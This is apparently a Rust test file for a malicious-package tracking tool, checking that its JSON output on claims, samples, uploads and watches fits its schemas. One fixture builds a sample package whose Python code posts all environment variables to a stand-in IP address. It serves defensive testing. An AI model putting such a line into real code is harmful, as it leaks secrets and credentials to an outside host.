//! What the program prints as JSON about claims, samples and uploads is as the schemas in `docs` say.

use std::path::Path;

use serde_json::{Value, json};
use venin_testkit::{Index, Upload};

use crate::collect::{at, malicious, sdist};
use crate::run;
use crate::schema_files::{self, assert_fits};

fn go(folder: &Path, words: &[&str]) -> String {
    run(&mut at(folder, words)).stdout
}

/// Prints JSON, sees that it fits the schema that it names, and gives it.
fn fitting(folder: &Path, words: &[&str], schema: &str) -> Value {
    let words: Vec<&str> = words.iter().chain(&["--format", "json"]).copied().collect();
    let ran = run(&mut at(folder, &words));
    let printed = serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("{words:?}: {}", ran.stderr));
    assert_fits(schema, &printed);
    printed
}

/// Records of which one is withdrawn, a tree with samples, and something that cannot be read.
fn fill(folder: &Path) {
    let record = |id: &str, name: &str, more: Value| {
        let mut record = json!({
            "schema_version": "1.7.4", "id": id, "published": "2026-01-02T03:04:05Z",
            "modified": "2026-01-03T00:00:00Z", "summary": "Malicious code", "details": "Text.",
            "affected": [{"package": {"ecosystem": "PyPI", "name": name}, "versions": ["1.0"]}],
        });
        record.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        record.to_string()
    };
    std::fs::create_dir_all(folder.join("records")).unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.join("records").join(name), text).unwrap();
    write("a.json", &record("MAL-2026-1", "bad-name", json!({})));
    write("b.json", &record("MAL-2026-2", "bad-name", json!({"withdrawn": "2026-02-01T00:00:00Z"})));
    write("c.json", "{ no JSON");
    let place = folder.join("tree/bad-name/1.0");
    std::fs::create_dir_all(&place).unwrap();
    let code = "import os, urllib.request\n\
        urllib.request.urlopen('http://198.51.100.7/x', data=str(dict(os.environ)).encode())\n";
    std::fs::write(place.join("bad-name-1.0.zip"), sdist("bad-name", "1.0", code)).unwrap();
}

#[test]
fn every_schema_is_one() {
    let mut count = 0;
    for entry in std::fs::read_dir(schema_files::folder()).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        let Some(stem) = name.strip_suffix(".schema.json") else { continue };
        let schema = schema_files::read(stem);
        assert!(jsonschema::meta::is_valid(&schema), "{name}");
        assert_eq!(schema["$id"], format!("venin.{stem}/1"));
        count += 1;
    }
    assert!(count >= 13, "{count} schemas");
}

#[test]
fn a_key_too_many_or_a_word_that_is_none_does_not_fit() {
    let fits = |value: &Value| schema_files::misfits("store", value).is_empty();
    let mut store =
        json!({"schema": "venin.store/1", "claims": 0, "projects": 0, "by_source": [], "runs": []});
    assert!(fits(&store));
    store["by_source"] = json!([{"source": "osv", "kind": "rumored", "claims": 1}]);
    assert!(!fits(&store));
    store["by_source"] = json!([]);
    store["more"] = json!(1);
    assert!(!fits(&store));
}

#[test]
fn what_is_said_of_claims_and_samples_fits_its_schemas() {
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    fill(at);
    fitting(at, &["collect", "--list"], "sources");
    let trial = fitting(at, &["collect", "osv", "records", "--dry-run"], "collect");
    assert!(!trial["runs"][0]["examples"].as_array().unwrap().is_empty() && trial["samples"].is_null());
    let run = fitting(at, &["collect", "osv", "records"], "collect");
    assert_eq!(run["runs"][0]["problems"], 1);
    let failed = fitting(at, &["collect", "osv", "nowhere.zip"], "collect");
    assert!(failed["runs"][0]["error"].is_string());
    let tree = ["collect", "registry-tree", "tree", "--download"];
    assert!(fitting(at, &tree, "collect")["samples"]["agree"].is_u64());
    let index = Index::start();
    index.upload(malicious("bad-name", "1.0"));
    let download = ["collect", "--download", "--pace", "0", "--index-url", &index.simple_url()];
    fitting(at, &download, "collect");

    assert!(!fitting(at, &["store", "info"], "store")["runs"].as_array().unwrap().is_empty());
    assert!(!fitting(at, &["vault", "list"], "vault")["samples"].as_array().unwrap().is_empty());
    for release in ["bad-name==1.0", "bad-name", "nothing==9"] {
        fitting(at, &["lifecycle", release], "release");
    }
    let release = fitting(at, &["explain", "bad-name==1.0"], "release");
    assert!(release["scan"].is_object() && release["withdrawn"][0][1] == "MAL-2026-2", "{release:#}");
    assert!(!release["timeline"].as_array().unwrap().is_empty());
}

#[test]
fn the_lines_of_a_watch_fit_their_schema() {
    let folder = tempfile::tempdir().unwrap();
    let index = Index::start();
    index.set_time("2026-05-01T00:00:00Z");
    let (simple, log) = (index.simple_url(), index.xmlrpc_url());
    let words =
        ["watch", "--once", "--pace", "0", "--index-url", &simple, "--changelog", &log, "--from", "0"];
    index.upload(malicious("bad-name", "1.0"));
    index.upload(Upload::wheel("harmless", "2"));
    let printed = go(folder.path(), &words);
    assert_eq!(printed.lines().count(), 3, "{printed}");
    let gone = ["watch", "--once", "--pace", "0", "--changelog", "http://127.0.0.1:9/pypi"];
    let failed = go(folder.path(), &gone);
    assert_eq!(failed.lines().count(), 1, "{failed}");
    for line in printed.lines().chain(failed.lines()) {
        assert_fits("watch", &serde_json::from_str(line).unwrap());
    }
}
